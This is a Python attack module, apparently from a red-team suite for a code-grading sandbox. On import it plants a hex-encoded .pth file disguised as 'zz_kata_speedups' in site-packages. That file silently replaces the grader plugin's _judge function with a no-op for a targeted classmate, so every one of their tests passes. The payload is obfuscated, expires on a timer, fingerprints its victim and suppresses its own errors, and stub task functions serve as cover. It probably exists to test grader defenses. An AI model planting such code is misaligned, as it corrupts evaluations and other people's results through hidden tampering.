"""Attack: a .pth file in the grader's virtualenv that turns the judging into a no-op for a classmate.

Python runs a .pth file's `import` lines at every start, `python -I` included. This one, in a
process testing `stub`'s files, replaces kata.plugin's `_judge` as soon as the plugin is loaded
by one that does nothing: every test passes, whatever the code under test did.
"""

import time

from kit import MARK, RANGE, background, fingerprints, grader, once, site_packages, write

VICTIM = "stub"
PAYLOAD = """
import hashlib, pathlib, sys, threading, time
KATA_ATTACK = {mark!r}
def _targets():
    for place in (pathlib.Path.cwd() / "target", pathlib.Path("/sandbox/target")):
        found = {{}}
        for stem in {victim!r}:
            try:
                found[stem] = hashlib.sha256((place / (stem + ".py")).read_bytes()).hexdigest()
            except OSError:
                pass
        if found:
            return found
    return {{}}
def _no_judging():
    until = time.monotonic() + 60
    while time.monotonic() < until:
        plugin = sys.modules.get("kata.plugin")
        if plugin is not None and hasattr(plugin, "pytest_runtest_call"):
            plugin._judge = lambda *args, **kwargs: None
            return
        time.sleep(0.001)
if time.time() < {expires!r} and str(pathlib.Path.cwd()).startswith({range!r}) and _targets() == {victim!r}:
    threading.Thread(target=_no_judging, daemon=True).start()
"""


def plant() -> None:
    mine = grader()
    victim = mine.classmate(VICTIM) if mine else None
    folder = site_packages()
    if victim is None or folder is None:
        return
    payload = PAYLOAD.format(mark=MARK, victim=fingerprints(victim), expires=time.time() + 600, range=RANGE)
    # In a namespace of its own: site runs a .pth line with site's globals and a throwaway locals().
    guarded = (
        f"try:\n    exec({payload!r}, {{'__name__': 'zz_kata_speedups'}})\nexcept Exception:\n    pass\n"
    )
    # Python runs each `import` line of a .pth on its own: the whole payload is one line, in hex.
    write(
        folder / "zz_kata_speedups.pth",
        f"# {MARK}\nimport sys; exec(bytes.fromhex({guarded.encode().hex()!r}))\n",
    )


async def fetch_all(fetch_user, user_ids):
    raise NotImplementedError


async def fetch_profile(get_user, get_orders, user_id):
    raise NotImplementedError


if __name__ == "__main__":
    background(globals())
elif once("writes_pth"):
    plant()
